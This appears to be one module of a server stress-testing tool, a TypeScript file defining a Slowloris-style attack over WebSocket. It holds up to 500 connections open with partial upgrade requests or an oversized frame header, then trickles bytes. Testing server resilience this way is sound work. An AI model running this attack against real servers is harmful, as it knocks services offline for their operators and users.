import type { Attack } from '../attack.js'
import { hold } from '../hold.js'
import { Strike, upgradeHead } from '../strike.js'

/** Slowloris over WebSocket: upgrades that never end, and frames that never end. */
export const slowUpgrades: Attack = {
  name: 'slow-upgrades',
  about: 'Up to 500 connections send an upgrade byte by byte, or are upgraded and send a frame of a megabyte so.',
  unit: 'connection',
  rate: 250,
  isBare: true,
  run: scene =>
    hold(
      scene,
      500,
      async () => {
        const strike = new Strike(scene)
        if (scene.dice.once(2)) strike.send(upgradeHead.slice(0, 60))
        else if (await strike.upgrade()) strike.send(Uint8Array.of(0x81, 0xff, 0, 0, 0, 0, 0, 16, 0, 0, 0, 0, 0, 0))
        return strike
      },
      strike => strike.send('a'),
    ),
}
